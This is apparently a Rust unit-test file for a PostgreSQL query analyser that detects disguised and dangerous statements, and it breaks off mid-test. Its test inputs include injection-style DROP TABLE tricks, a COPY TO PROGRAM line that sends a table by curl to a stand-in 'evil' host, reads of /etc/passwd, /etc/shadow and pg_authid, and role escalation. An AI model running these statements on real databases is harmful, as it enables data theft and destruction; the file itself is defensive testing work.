//! Unit tests of the analyser: disguises, statement kinds, tables, columns, the cache.

use std::collections::BTreeSet;

use crate::{
    AnalysisCache, AnalysisContext, AnalysisError, ColumnRef, StatementInfo, TableRef, analyze,
};

fn ctx() -> AnalysisContext {
    AnalysisContext::default()
}

fn all(sql: &str) -> Vec<StatementInfo> {
    match analyze(sql, &ctx()) {
        Ok(v) => v,
        Err(e) => panic!("{sql:?} failed: {e:?}"),
    }
}

fn one(sql: &str) -> StatementInfo {
    let mut v = all(sql);
    assert_eq!(v.len(), 1, "{sql:?} should be one statement: {v:#?}");
    v.remove(0)
}

fn t(schema: &str, name: &str) -> TableRef {
    TableRef {
        schema: Some(schema.to_owned()),
        name: name.to_owned(),
    }
}

fn col(schema: &str, table: &str, column: &str) -> ColumnRef {
    ColumnRef {
        table: Some(t(schema, table)),
        column: column.to_owned(),
    }
}

fn set<T: Ord + Clone>(items: &[T]) -> BTreeSet<T> {
    items.iter().cloned().collect()
}

fn kinds(items: &[&str]) -> BTreeSet<String> {
    items.iter().map(|s| (*s).to_owned()).collect()
}

fn is_drop(i: &StatementInfo) -> bool {
    i.kind == "drop" || i.kinds.contains("drop")
}

// --- disguises ---------------------------------------------------------------------------------

#[test]
fn mixed_case_and_nested_comments() {
    let i = one(
        "SeLeCt /* outer /* inner */ still a comment; DROP TABLE x; */ CaRd_NuMbEr \
         FrOm PuBlIc.PaYmEnTs -- ; DROP TABLE y\n",
    );
    assert_eq!(i.kind, "select");
    assert_eq!(i.kinds, kinds(&["select"]));
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));
    assert!(i.tables_written.is_empty());
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );
    assert!(!i.data_modifying);
}

#[test]
fn quoted_identifiers_keep_their_case() {
    let i = one(r#"SELECT "Card_Number" FROM "Payments""#);
    assert_eq!(i.tables_read, set(&[t("public", "Payments")]));
    assert_eq!(
        i.columns_read,
        set(&[col("public", "Payments", "Card_Number")])
    );
}

#[test]
fn dollar_quoting_hides_a_drop_inside_a_string() {
    let i = one("SELECT $tag$ ; DROP TABLE payments; $tag$ AS harmless");
    assert_eq!(i.kind, "select");
    assert!(!is_drop(&i));
    assert!(i.tables_written.is_empty());

    let v = all("SELECT $$ ; DROP TABLE a; $$; DROP TABLE payments");
    assert_eq!(v.len(), 2);
    assert!(v.first().is_some_and(|i| !is_drop(i)));
    let drop = v.get(1).cloned().unwrap_or_default();
    assert_eq!(drop.kind, "drop");
    assert!(drop.kinds.contains("ddl"));
    assert_eq!(drop.tables_written, set(&[t("public", "payments")]));
}

#[test]
fn unicode_escaped_identifiers_resolve() {
    let i = one(r#"SELECT U&"\0063ard_number" FROM payments"#);
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );
    let i = one(r#"SELECT U&"!0063ard_number" UESCAPE '!' FROM U&"pay\006Dents""#);
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );
}

#[test]
fn multi_statement_strings() {
    let v = all("SELECT 1; DROP TABLE x");
    assert_eq!(v.len(), 2);
    assert_eq!(v.first().map(|i| i.kind.as_str()), Some("select"));
    let d = v.get(1).cloned().unwrap_or_default();
    assert_eq!(d.kind, "drop");
    assert_eq!(d.tables_written, set(&[t("public", "x")]));

    let v = all("BEGIN; UPDATE accounts SET balance = 0; COMMIT;");
    let k: Vec<&str> = v.iter().map(|i| i.kind.as_str()).collect();
    assert_eq!(k, ["begin", "update", "commit"]);
}

#[test]
fn empty_and_comment_only_strings_have_no_statement() {
    assert!(all("").is_empty());
    assert!(all("  -- nothing\n/* at all */ ;").is_empty());
}

#[test]
fn backslash_trick_depends_on_standard_conforming_strings() {
    let off_ctx = AnalysisContext {
        standard_conforming_strings: false,
        ..ctx()
    };
    let drops = |sql: &str, c: &AnalysisContext| match analyze(sql, c) {
        Ok(v) => v.iter().any(is_drop),
        Err(e) => panic!("{sql:?}: {e:?}"),
    };

    // SQL text `SELECT 'a\'; DROP TABLE x; --'` (one backslash; the brief's Rust spelling is
    // "SELECT 'a\\'; ..."). scs on: the backslash is an ordinary character, the literal ends
    // at the second quote and a real DROP follows. scs off: \' escapes the quote, everything
    // up to the last quote is one literal.
    let sql = r"SELECT 'a\'; DROP TABLE x; --'";
    assert!(drops(sql, &ctx()));
    assert_eq!(analyze(sql, &ctx()).map(|v| v.len()), Ok(2));
    assert!(!drops(sql, &off_ctx));
    assert_eq!(analyze(sql, &off_ctx).map(|v| v.len()), Ok(1));

    // The mirror image: a DROP that is real only when scs is off.
    let sql = r"SELECT 'a\''; DROP TABLE x; --'";
    assert!(drops(sql, &off_ctx));
    assert!(!drops(sql, &ctx()));
    assert_eq!(analyze(sql, &ctx()).map(|v| v.len()), Ok(1));

    // Two backslashes in the text: a complete literal either way, the DROP is real in both.
    let sql = r"SELECT 'a\\'; DROP TABLE x; --'";
    assert!(drops(sql, &off_ctx));
    assert!(drops(sql, &ctx()));
}

#[test]
fn escape_string_syntax_is_always_backslash_aware() {
    let v = all(r"SELECT E'a\'; DROP TABLE x; --'");
    assert_eq!(v.len(), 1);
    assert!(!v.iter().any(is_drop));
}

#[test]
fn nul_byte_is_refused() {
    let e = analyze("SELECT 1\0; DROP TABLE x", &ctx());
    assert!(matches!(e, Err(AnalysisError::Parse { .. })), "{e:?}");
}

// --- prepared statements, CTEs, EXPLAIN, cursors -------------------------------------------------

#[test]
fn prepare_merges_the_body_and_execute_names_it() {
    let i = one("PREPARE wipe(int) AS DELETE FROM payments WHERE id = $1");
    assert_eq!(i.kind, "prepare");
    assert_eq!(i.prepares.as_deref(), Some("wipe"));
    assert!(i.kinds.is_superset(&kinds(&["prepare", "delete", "dml"])));
    assert!(i.data_modifying);
    assert_eq!(i.tables_written, set(&[t("public", "payments")]));
    assert!(i.columns_read.contains(&col("public", "payments", "id")));

    let i = one("PREPARE q AS SELECT card_number FROM payments p LIMIT 5");
    assert_eq!(i.prepares.as_deref(), Some("q"));
    assert!(!i.data_modifying);
    assert_eq!(i.limit, Some(5));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );

    let i = one("EXECUTE wipe(42)");
    assert_eq!(i.kind, "execute");
    assert_eq!(i.executes.as_deref(), Some("wipe"));
    assert!(i.tables_read.is_empty() && i.tables_written.is_empty());

    let i = one("EXECUTE q(pg_read_file('/etc/passwd'))");
    assert!(i.functions.contains("pg_read_file"));

    let i = one("DEALLOCATE ALL");
    assert_eq!(i.kind, "deallocate");
}

#[test]
fn data_modifying_cte() {
    let i = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(i.kind, "select");
    assert!(i.data_modifying);
    assert!(i.kinds.is_superset(&kinds(&["select", "delete", "dml"])));
    assert_eq!(i.tables_written, set(&[t("public", "t")]));
    // `d` is the CTE, not a table.
    assert!(!i.tables_read.contains(&t("public", "d")));
    assert!(i.columns_read.contains(&col("public", "t", "*")));
}

#[test]
fn cte_names_are_not_tables_but_shadow_only_unqualified_names() {
    let i = one("WITH payments AS (SELECT 1 AS card_number) \
         SELECT card_number FROM payments UNION ALL SELECT card_number FROM public.payments");
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));
    assert!(!i.data_modifying);

    let i = one(
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT n FROM r",
    );
    assert!(i.tables_read.is_empty(), "{i:#?}");
}

#[test]
fn explain_analyze_runs_the_statement_but_plain_explain_does_not() {
    let i = one("EXPLAIN ANALYZE DELETE FROM payments");
    assert_eq!(i.kind, "explain");
    assert_eq!(i.kinds, kinds(&["explain", "delete", "dml"]));
    assert!(i.data_modifying);
    assert_eq!(i.tables_written, set(&[t("public", "payments")]));

    let i = one("EXPLAIN (ANALYZE, BUFFERS) UPDATE payments SET amount = 0");
    assert!(i.data_modifying);
    assert!(i.kinds.contains("update"));

    let i = one("EXPLAIN (ANALYZE false) DELETE FROM payments");
    assert!(!i.data_modifying);
    assert_eq!(i.kinds, kinds(&["explain"]));

    let i = one("EXPLAIN DELETE FROM payments");
    assert!(!i.data_modifying);
    assert_eq!(i.kinds, kinds(&["explain"]));
    // Still names the table, so a policy on it applies.
    assert!(i.tables_written.contains(&t("public", "payments")));
}

#[test]
fn create_table_as_and_select_into_write_data() {
    let i = one("CREATE TABLE loot AS SELECT card_number FROM payments");
    assert_eq!(i.kind, "create");
    assert!(i.data_modifying);
    assert!(i.kinds.is_superset(&kinds(&["create", "ddl", "select"])));
    assert_eq!(i.tables_written, set(&[t("public", "loot")]));
    assert!(i.tables_read.contains(&t("public", "payments")));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );

    let i = one("CREATE MATERIALIZED VIEW mv AS SELECT * FROM payments WITH NO DATA");
    assert!(i.data_modifying);
    assert!(i.tables_written.contains(&t("public", "mv")));

    let i = one("SELECT card_number INTO TEMP loot FROM payments");
    assert_eq!(i.kind, "create");
    assert!(i.data_modifying);
    assert!(i.kinds.contains("select"));
    assert_eq!(i.tables_written, set(&[t("pg_temp", "loot")]));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert_eq!(i.limit, None);

    let i = one("CREATE TABLE t2 AS EXECUTE q");
    assert_eq!(i.executes.as_deref(), Some("q"));
    assert!(i.data_modifying);
}

#[test]
fn declare_cursor_body_is_analysed() {
    let i = one("DECLARE c CURSOR WITH HOLD FOR SELECT card_number FROM payments LIMIT 10");
    assert_eq!(i.kind, "declare");
    assert!(i.kinds.contains("select"));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert_eq!(i.limit, Some(10));
    assert!(!i.data_modifying);

    let i =
        one("DECLARE c CURSOR FOR WITH d AS (DELETE FROM payments RETURNING id) SELECT * FROM d");
    assert!(i.data_modifying);
    assert!(i.tables_written.contains(&t("public", "payments")));

    assert_eq!(one("FETCH 10 FROM c").kind, "fetch");
    assert_eq!(one("MOVE NEXT IN c").kind, "fetch");
    assert_eq!(one("CLOSE c").kind, "close");
}

#[test]
fn opaque_code() {
    let i = one("DO $$ BEGIN EXECUTE 'DROP TABLE payments'; END $$");
    assert_eq!(i.kind, "do");
    assert!(i.opaque);
    assert!(!is_drop(&i));

    let i = one("DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$");
    assert!(i.opaque);

    let i = one(
        "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM payments RETURNING 1 $$",
    );
    assert_eq!(i.kind, "create_function");
    assert!(i.opaque);
    assert!(i.kinds.contains("ddl"));

    let i = one("CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM payments; END");
    assert_eq!(i.kind, "create_function");
    assert!(i.opaque);
    // The SQL-standard body is stored, not run: its tables are named, its kinds are not.
    assert!(i.tables_written.contains(&t("public", "payments")));
    assert!(!i.data_modifying);
    assert!(!i.kinds.contains("delete"));

    let i = one("CREATE TRIGGER trg BEFORE INSERT ON payments FOR EACH ROW \
         WHEN (NEW.amount > 100) EXECUTE FUNCTION audit()");
    assert_eq!(i.kind, "create_trigger");
    assert!(i.opaque);
    assert!(i.tables_written.contains(&t("public", "payments")));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "amount"))
    );

    let i = one("CREATE RULE r AS ON SELECT TO v DO INSTEAD SELECT card_number FROM payments");
    assert_eq!(i.kind, "create_rule");
    assert!(i.opaque);
    assert!(i.tables_read.contains(&t("public", "payments")));

    let i = one("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()");
    assert_eq!(i.kind, "create_trigger");
    assert!(i.opaque);
}

// --- COPY ----------------------------------------------------------------------------------------

#[test]
fn copy_variants() {
    let i = one("COPY payments TO PROGRAM 'curl -d @- http://evil'");
    assert_eq!(i.kind, "copy_to");
    assert!(i.copy_program && !i.copy_file);
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));
    assert!(i.columns_read.contains(&col("public", "payments", "*")));
    assert!(!i.data_modifying);

    let i = one("COPY payments FROM PROGRAM 'cat /etc/passwd'");
    assert_eq!(i.kind, "copy_from");
    assert!(i.copy_program);
    assert!(i.kinds.is_superset(&kinds(&["copy_from", "dml"])));
    assert!(i.data_modifying);
    assert_eq!(i.tables_written, set(&[t("public", "payments")]));

    let i = one("COPY (SELECT card_number FROM payments) TO '/tmp/x'");
    assert!(i.copy_file && !i.copy_program);
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );

    let i = one("COPY payments (id, card_number) TO STDOUT WITH (FORMAT csv)");
    assert!(!i.copy_file && !i.copy_program);
    assert_eq!(
        i.columns_read,
        set(&[
            col("public", "payments", "id"),
            col("public", "payments", "card_number")
        ])
    );

    let i = one("COPY payments FROM STDIN");
    assert!(!i.copy_file && !i.copy_program);
    assert!(i.data_modifying);

    let i = one("COPY (DELETE FROM payments RETURNING *) TO STDOUT");
    assert!(i.data_modifying);
    assert!(i.tables_written.contains(&t("public", "payments")));
}

// --- administration ------------------------------------------------------------------------------

#[test]
fn alter_system_and_create_extension() {
    let i = one("ALTER SYSTEM SET log_statement = 'none'");
    assert_eq!(i.kind, "alter_system");
    assert!(i.kinds.contains("ddl"));
    assert!(!i.kinds.contains("set"));
    assert_eq!(i.set_setting, None);

    let i = one("CREATE EXTENSION IF NOT EXISTS dblink");
    assert_eq!(i.kind, "create_extension");
    assert!(i.kinds.contains("ddl"));
}

#[test]
fn set_role_and_session_authorization() {
    let i = one("SET ROLE admin");
    assert_eq!(i.kind, "set_role");
    assert!(i.kinds.contains("set"));
    assert_eq!(
        i.set_setting,
        Some(("role".to_owned(), Some("admin".to_owned())))
    );

    let i = one("set local role \"Admin\"");
    assert_eq!(i.kind, "set_role");
    assert_eq!(
        i.set_setting,
        Some(("role".to_owned(), Some("Admin".to_owned())))
    );

    let i = one("SET SESSION AUTHORIZATION 'postgres'");
    assert_eq!(i.kind, "set_session_authorization");
    assert_eq!(
        i.set_setting.as_ref().map(|s| s.0.as_str()),
        Some("session_authorization")
    );

    let i = one("RESET ROLE");
    assert_eq!(i.kind, "set_role");
    assert!(i.kinds.contains("reset"));
    assert_eq!(i.set_setting, Some(("role".to_owned(), None)));

    let i = one("SET SESSION AUTHORIZATION DEFAULT");
    assert_eq!(i.kind, "set_session_authorization");

    let i = one("DISCARD ALL");
    assert_eq!(i.kind, "discard");
    assert!(
        i.kinds
            .is_superset(&kinds(&["set_role", "set_session_authorization"]))
    );
}

#[test]
fn set_and_reset_settings() {
    let i = one("SET standard_conforming_strings = off");
    assert_eq!(i.kind, "set");
    assert_eq!(
        i.set_setting,
        Some((
            "standard_conforming_strings".to_owned(),
            Some("off".to_owned())
        ))
    );

    let i = one("SET LOCAL Standard_Conforming_Strings TO 'off'");
    assert_eq!(
        i.set_setting,
        Some((
            "standard_conforming_strings".to_owned(),
            Some("off".to_owned())
        ))
    );

    let i = one("SET search_path TO evil, public");
    assert_eq!(
        i.set_setting,
        Some(("search_path".to_owned(), Some("evil, public".to_owned())))
    );

    let i = one(r#"SET search_path = "$user", "My Schema", Public"#);
    assert_eq!(
        i.set_setting,
        Some((
            "search_path".to_owned(),
            Some(r#""$user", "My Schema", public"#.to_owned())
        ))
    );

    let i = one("RESET search_path");
    assert_eq!(i.kind, "reset");
    assert_eq!(i.set_setting, Some(("search_path".to_owned(), None)));

    let i = one("RESET ALL");
    assert_eq!(i.kind, "reset");
    assert_eq!(i.set_setting, Some(("all".to_owned(), None)));

    let i = one("SHOW search_path");
    assert_eq!(i.kind, "show");
    assert_eq!(i.set_setting, None);
}

#[test]
fn maintenance_statements() {
    let i = one("VACUUM (FULL, ANALYZE) payments");
    assert_eq!(i.kind, "vacuum");
    assert!(i.tables_written.contains(&t("public", "payments")));
    let i = one("ANALYZE payments");
    assert_eq!(i.kind, "analyze");
    let i = one("VACUUM");
    assert_eq!(i.kind, "vacuum");

    let i = one("REINDEX TABLE CONCURRENTLY payments");
    assert_eq!(i.kind, "reindex");
    assert!(i.tables_written.contains(&t("public", "payments")));
    assert_eq!(one("REINDEX DATABASE app").kind, "reindex");

    assert_eq!(one("CHECKPOINT").kind, "checkpoint");
    assert_eq!(one("CLUSTER payments USING payments_pkey").kind, "cluster");
    let i = one("LOCK TABLE payments IN ACCESS EXCLUSIVE MODE");
    assert_eq!(i.kind, "lock");
    assert!(i.tables_read.contains(&t("public", "payments")));
    assert_eq!(one("LOAD 'auto_explain'").kind, "load");
    assert_eq!(one("LISTEN ch").kind, "listen");
    assert_eq!(one("NOTIFY ch, 'x'").kind, "notify");
    assert_eq!(one("CALL do_things(1)").kind, "call");
    assert!(one("CALL do_things(1)").functions.contains("do_things"));
}

#[test]
fn create_policy_and_other_ddl() {
    let i = one(
        "CREATE POLICY p ON payments FOR SELECT TO analyst USING (owner = current_user AND amount < 100)",
    );
    assert_eq!(i.kind, "create_policy");
    assert!(i.kinds.contains("ddl"));
    assert!(i.tables_written.contains(&t("public", "payments")));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "amount"))
    );

    let i = one("ALTER TABLE payments ADD COLUMN note text DEFAULT pg_read_file('/etc/passwd')");
    assert_eq!(i.kind, "alter");
    assert!(i.tables_written.contains(&t("public", "payments")));
    assert!(i.functions.contains("pg_read_file"));

    let i = one("DROP TRIGGER trg ON billing.payments");
    assert_eq!(i.kind, "drop");
    assert_eq!(i.tables_written, set(&[t("billing", "payments")]));

    let i = one("DROP SCHEMA billing CASCADE");
    assert_eq!(i.kind, "drop");
    assert!(i.tables_written.is_empty());

    let i = one("TRUNCATE payments, billing.refunds");
    assert_eq!(i.kind, "truncate");
    assert!(i.data_modifying);
    assert!(i.kinds.contains("dml"));
    assert_eq!(
        i.tables_written,
        set(&[t("public", "payments"), t("billing", "refunds")])
    );

    let i = one("GRANT SELECT ON payments TO analyst");
    assert_eq!(i.kind, "grant");
    assert!(i.tables_written.contains(&t("public", "payments")));
    assert_eq!(one("REVOKE ALL ON payments FROM analyst").kind, "revoke");
    assert_eq!(one("GRANT admin TO mallory").kind, "grant");

    let i =
        one("CREATE SCHEMA s CREATE TABLE inner_t (id int) CREATE VIEW v AS SELECT * FROM inner_t");
    assert_eq!(i.kind, "create");
    assert!(i.tables_written.contains(&t("s", "inner_t")));
    assert!(i.tables_read.contains(&t("s", "inner_t")));

    let i = one("CREATE VIEW leak AS SELECT card_number FROM payments");
    assert_eq!(i.kind, "create");
    assert!(i.tables_written.contains(&t("public", "leak")));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert!(!i.kinds.contains("select"));

    let i = one("CREATE INDEX ON payments (lower(card_number))");
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert_eq!(
        one("COMMENT ON TABLE payments IS 'x'").tables_written,
        set(&[t("public", "payments")])
    );
    let i = one("REFRESH MATERIALIZED VIEW mv");
    assert!(i.data_modifying);
    assert!(i.kinds.contains("ddl"));
}

// --- functions, columns, tables ------------------------------------------------------------------

#[test]
fn dangerous_functions_are_listed_lower_case() {
    let i = one("SELECT PG_READ_FILE('/etc/passwd'), lo_import('/etc/shadow')");
    assert!(
        i.functions
            .is_superset(&kinds(&["pg_read_file", "lo_import"]))
    );
    let i = one("SELECT dblink_exec('dbname=x', 'DROP TABLE payments')");
    assert!(i.functions.contains("dblink_exec"));
    assert!(!is_drop(&i));
    let i = one("SELECT pg_catalog.pg_read_binary_file('x')");
    assert!(i.functions.contains("pg_catalog.pg_read_binary_file"));
    let i = one("SELECT * FROM pg_ls_dir('.') AS f(name)");
    assert!(i.functions.contains("pg_ls_dir"));
    let i = one("SELECT 1 WHERE EXISTS (SELECT set_config('role', 'admin', false))");
    assert!(i.functions.contains("set_config"));
    // SQL-syntax functions are not reported as pg_catalog-qualified.
    let i = one("SELECT EXTRACT(year FROM now()), substring('abc' FROM 2)");
    assert!(i.functions.contains("extract"), "{:?}", i.functions);
    assert!(i.functions.contains("now"));
}

#[test]
fn columns_through_aliases() {
    let i = one("SELECT p.card_number FROM public.payments p");
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));

    let i = one(
        "SELECT p.card_number, c.name FROM billing.payments AS p JOIN customers c ON c.id = p.customer_id \
         WHERE p.amount > 10 ORDER BY c.name",
    );
    assert!(i.columns_read.is_superset(&set(&[
        col("billing", "payments", "card_number"),
        col("billing", "payments", "customer_id"),
        col("billing", "payments", "amount"),
        col("public", "customers", "name"),
        col("public", "customers", "id"),
    ])));
    assert!(i.columns_read.iter().all(|c| c.table.is_some()));

    let i = one("SELECT public.payments.card_number FROM public.payments");
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );

    let i = one("SELECT x AS card FROM (SELECT card_number AS x FROM payments) s ORDER BY card");
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );
}

#[test]
fn field_selection_and_whole_rows() {
    let i = one("SELECT (p).card_number FROM payments p");
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );

    let i = one("SELECT (p.*).card_number FROM payments p");
    assert_eq!(
        i.columns_read,
        set(&[col("public", "payments", "card_number")])
    );

    let i = one("SELECT row_to_json(p) FROM payments p");
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));
    assert!(i.functions.contains("row_to_json"));

    let i = one("SELECT p::text FROM payments p");
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));

    let i = one("SELECT card_number(p) FROM payments p");
    assert!(i.columns_read.contains(&col("public", "payments", "*")));

    let i = one("SELECT p.* FROM payments p, customers c");
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));

    let i = one("SELECT * FROM payments p JOIN customers c USING (customer_id)");
    assert!(i.columns_read.contains(&col("public", "payments", "*")));
    assert!(i.columns_read.contains(&col("public", "customers", "*")));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "customer_id"))
    );
}

#[test]
fn column_aliases_hide_which_column_is_read() {
    // `p(x)` renames the first column, whatever it is: without a catalog, that is any column.
    let i = one("SELECT x FROM payments AS p(x)");
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));
    let i = one("SELECT p.x, p.amount FROM payments p(x)");
    assert_eq!(
        i.columns_read,
        set(&[
            col("public", "payments", "*"),
            col("public", "payments", "amount")
        ])
    );
    let i = one("SELECT (p).x FROM payments p(x)");
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));
    let i = one("SELECT j.a FROM (payments p JOIN customers c ON true) AS j(a)");
    assert!(i.columns_read.contains(&col("public", "payments", "*")));
    assert!(i.columns_read.contains(&col("public", "customers", "*")));
    let i = one("SELECT x FROM payments p(x) JOIN customers c USING (x)");
    assert!(i.columns_read.contains(&col("public", "payments", "*")));
    assert!(i.columns_read.contains(&col("public", "customers", "x")));
}

#[test]
fn a_name_matching_a_from_item_may_still_be_a_column() {
    // `s` is a subquery alias, but payments may have a column `s` (the server tries it first).
    let i = one("SELECT s FROM payments, (SELECT 1) s");
    assert!(i.columns_read.contains(&col("public", "payments", "s")));
    // Whole row of the only table: just `*`.
    let i = one("SELECT p FROM payments p");
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));
}

#[test]
fn ambiguous_and_correlated_columns_are_reported_for_every_candidate() {
    let i = one("SELECT card_number FROM payments, customers");
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert!(
        i.columns_read
            .contains(&col("public", "customers", "card_number"))
    );

    // A correlated reference may come from the outer query.
    let i = one(
        "SELECT id FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.cid = c.id AND card_number IS NOT NULL)",
    );
    assert!(
        i.columns_read
            .contains(&col("public", "customers", "card_number"))
    );
    assert!(
        i.columns_read
            .contains(&col("public", "orders", "card_number"))
    );

    let i = one("SELECT (SELECT card_number FROM generate_series(1, 1) g) FROM payments");
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
}

#[test]
fn table_statement_and_tablesample() {
    let i = one("TABLE payments");
    assert_eq!(i.kind, "select");
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));
    assert_eq!(i.columns_read, set(&[col("public", "payments", "*")]));

    let i = one("SELECT * FROM ONLY payments TABLESAMPLE SYSTEM (10) REPEATABLE (1)");
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));
    assert!(i.columns_read.contains(&col("public", "payments", "*")));

    let i = one("SELECT 1 FROM payments FOR UPDATE OF payments");
    assert!(i.kinds.contains("lock"));
    assert_eq!(i.tables_read, set(&[t("public", "payments")]));
}

#[test]
fn search_path_and_catalog_resolution() {
    let c = AnalysisContext {
        search_path: vec![
            "\"$user\"".to_owned(),
            "billing".to_owned(),
            "public".to_owned(),
        ],
        standard_conforming_strings: true,
    };
    // Two schemas to search: which holds `payments` is the catalog's business, so the table
    // stays unresolved (rules then match it in any schema).
    let v = analyze("SELECT * FROM payments", &c).unwrap_or_default();
    assert_eq!(
        v.first().map(|i| i
            .tables_read
            .iter()
            .map(|t| t.schema.clone())
            .collect::<Vec<_>>()),
        Some(vec![None])
    );
    let one_schema = AnalysisContext {
        search_path: vec!["\"$user\"".to_owned(), "billing".to_owned()],
        standard_conforming_strings: true,
    };
    let v = analyze("SELECT * FROM payments", &one_schema).unwrap_or_default();
    assert_eq!(
        v.first().map(|i| i.tables_read.clone()),
        Some(set(&[t("billing", "payments")]))
    );

    let i = one("SELECT rolpassword FROM pg_authid");
    assert_eq!(i.tables_read, set(&[t("pg_catalog", "pg_authid")]));

    let none = AnalysisContext {
        search_path: vec![],
        standard_conforming_strings: true,
    };
    let v = analyze("SELECT * FROM payments", &none).unwrap_or_default();
    let expected = TableRef {
        schema: None,
        name: "payments".to_owned(),
    };
    assert_eq!(
        v.first().map(|i| i.tables_read.clone()),
        Some(set(&[expected]))
    );
}

#[test]
fn dml_tables_and_columns() {
    let i =
        one("INSERT INTO audit (who, what) SELECT owner, card_number FROM payments RETURNING id");
    assert_eq!(i.kind, "insert");
    assert!(i.data_modifying);
    assert_eq!(i.kinds, kinds(&["insert", "dml", "select"]));
    assert_eq!(i.tables_written, set(&[t("public", "audit")]));
    assert!(i.tables_read.contains(&t("public", "payments")));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert!(i.columns_read.contains(&col("public", "audit", "id")));
    assert!(!i.columns_read.contains(&col("public", "audit", "who")));

    let i = one(
        "UPDATE payments p SET amount = 0 FROM customers c WHERE c.id = p.cid AND c.vip RETURNING p.card_number",
    );
    assert_eq!(i.kind, "update");
    assert_eq!(i.tables_written, set(&[t("public", "payments")]));
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );
    assert!(i.columns_read.contains(&col("public", "customers", "vip")));

    let i = one("DELETE FROM payments USING customers WHERE customers.id = payments.cid");
    assert_eq!(i.kind, "delete");
    assert!(i.tables_read.contains(&t("public", "customers")));

    let i = one("MERGE INTO payments p USING staging s ON p.id = s.id \
         WHEN MATCHED THEN UPDATE SET amount = s.amount \
         WHEN NOT MATCHED THEN INSERT (id, amount) VALUES (s.id, s.amount)");
    assert_eq!(i.kind, "merge");
    assert!(
        i.kinds
            .is_superset(&kinds(&["merge", "update", "insert", "dml"]))
    );
    assert_eq!(i.tables_written, set(&[t("public", "payments")]));
    assert!(i.tables_read.contains(&t("public", "staging")));

    let i = one("INSERT INTO t (a, b) VALUES (1, lo_import('/etc/passwd'))");
    assert_eq!(i.kinds, kinds(&["insert", "dml"]));
    assert!(i.functions.contains("lo_import"));
    let i = one("INSERT INTO t (a) VALUES ((SELECT max(card_number) FROM payments))");
    assert!(
        i.columns_read
            .contains(&col("public", "payments", "card_number"))
    );

    let i = one("INSERT INTO t (a) VALUES (1) ON CONFLICT (a) DO UPDATE SET b = excluded.b + t.b");
    assert!(i.columns_read.contains(&col("public", "t", "b")));
}

#[test]
fn limit_extraction() {
    assert_eq!(one("SELECT * FROM payments LIMIT 100").limit, Some(100));
    assert_eq!(
        one("SELECT * FROM payments LIMIT 10 OFFSET 5").limit,
        Some(10)
    );
    assert_eq!(
        one("SELECT * FROM payments FETCH FIRST 7 ROWS ONLY").limit,
        Some(7)
    );
    assert_eq!(
        one("SELECT * FROM payments LIMIT 9999999999").limit,
        Some(9_999_999_999)
    );
    assert_eq!(one("SELECT * FROM payments LIMIT '42'").limit, Some(42));
    assert_eq!(one("SELECT * FROM payments LIMIT ALL").limit, None);
    assert_eq!(one("SELECT * FROM payments LIMIT $1").limit, None);
    assert_eq!(one("SELECT * FROM payments").limit, None);
    assert_eq!(
        one("SELECT * FROM payments ORDER BY id FETCH FIRST 5 ROWS WITH TIES").limit,
        None
    );
    // Only the outermost LIMIT counts.
    assert_eq!(
        one("SELECT * FROM (SELECT * FROM payments LIMIT 5) s").limit,
        None
    );
    assert_eq!(
        one("(SELECT 1 LIMIT 1) UNION ALL (SELECT 2) LIMIT 3").limit,
        Some(3)
    );
}

// --- errors and limits ---------------------------------------------------------------------------

#[test]
fn syntax_error_returns_the_parser_message() {
    let e = analyze("SELEC * FROM payments", &ctx());
    match e {
        Err(AnalysisError::Parse { message, .. }) => {
            assert!(message.contains("syntax error"), "{message}");
            assert_eq!(
                AnalysisError::Parse {
                    message: message.clone(),
                    position: None
                }
                .to_string(),
                message
            );
        }
        other => panic!("expected a parse error, got {other:?}"),
    }
    let e = analyze("SELECT 'unterminated", &ctx());
    assert!(matches!(e, Err(AnalysisError::Parse { .. })), "{e:?}");
    // A parse error anywhere fails the whole string.
    let e = analyze("SELECT 1; DROP TABLE x; SELEC", &ctx());
